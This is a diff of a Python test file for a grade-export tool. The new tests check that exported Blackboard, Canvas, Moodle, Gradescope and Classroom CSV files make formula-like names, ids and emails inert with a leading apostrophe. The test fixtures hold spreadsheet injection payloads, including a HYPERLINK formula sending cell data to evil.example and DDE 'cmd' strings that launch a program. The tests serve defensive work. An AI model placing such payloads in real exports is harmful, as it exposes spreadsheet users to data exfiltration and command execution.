@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import csv
-import io
 import shutil
 import subprocess
 import zipfile
@@ -181,10 +180,43 @@ def test_a_plain_folder_gets_no_lms_file(tmp_path, mha):
     assert sorted(p.name for p in tmp_path.iterdir()) == ["students"]
 
 
-def test_csv_reads_back_what_was_written():
-    """Is a name with a comma or a quote one cell (csv quoting), as LMS importers read CSV?"""
-    text = lms_grades._csv(["a"], [['Doe, "Jane"']])
-    assert list(csv.reader(io.StringIO(text))) == [["a"], ['Doe, "Jane"']]
+def test_blackboard_makes_each_part_of_a_name_inert_after_splitting_it(tmp_path, mha):
+    """Mallory names herself 'Mallory =HYPERLINK(...)': is Last Name the formula made inert, First Name 'Mallory'?"""
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+    rows = [
+        summary_row("mallory", f"Mallory {hyperlink}", "mal", "0"),
+        summary_row("eve", "=cmd|' /C calc'!A0 Eve", "-eve", "0"),
+        summary_row("jane", "Jane Doe", "jdoe", "40"),
+    ]
+    written = write(tmp_path, mha, "blackboard", rows)
+    assert lines(tmp_path / "blackboard_grades.csv")[1:] == [
+        ["'" + hyperlink, "Mallory", "mal", "0"],
+        ["Eve", "'=cmd|' /C calc'!A0", "'-eve", "0"],
+        ["Doe", "Jane", "jdoe", "40"],
+    ]
+    assert any("1 ids start with a character a spreadsheet would run" in n and "-eve" in n for n in written.notes)
+
+
+@pytest.mark.parametrize("source", ["canvas", "moodle", "gradescope", "classroom"])
+def test_every_lms_file_makes_the_exports_text_inert_and_keeps_the_kits_numbers(tmp_path, mha, source):
+    """A name, id and email that a spreadsheet would run: is each written after a ', while the grade and the
+    most points stay the numbers the kit computed, and the honest student's row is as before?"""
+    rows = [
+        summary_row("ann", "@SUM(1+1)", "+1", "37.37", email="-2+3+cmd|' /C calc'!A0"),
+        summary_row("jane", "Jane Doe", "12345", "40", email="jane@example.edu"),
+    ]
+    write(tmp_path, mha, source, rows)
+    ann, jane = (dict(zip(lines(tmp_path / f"{source}_grades.csv")[0], line)) for line in _students(tmp_path, source))
+    shown = {k: v for k, v in ann.items() if v.lstrip("'") in ("@SUM(1+1)", "+1", "-2+3+cmd|' /C calc'!A0")}
+    assert shown and all(value.startswith("'") for value in shown.values())
+    grades = {"canvas": "mha", "moodle": "Grade", "gradescope": "Total Score", "classroom": "points_awarded"}
+    assert (ann[grades[source]], jane[grades[source]]) == ("37.37", "40")
+    assert "Jane Doe" in jane.values() or source == "classroom"
+
+
+def _students(tmp_path: Path, source: str) -> list[list[str]]:
+    rows = lines(tmp_path / f"{source}_grades.csv")[1:]
+    return rows[1:] if source == "canvas" else rows  # Canvas's second row is "Points Possible"
 
 
 def test_written_answers_without_points_leave_the_grade_empty(tmp_path, mha):
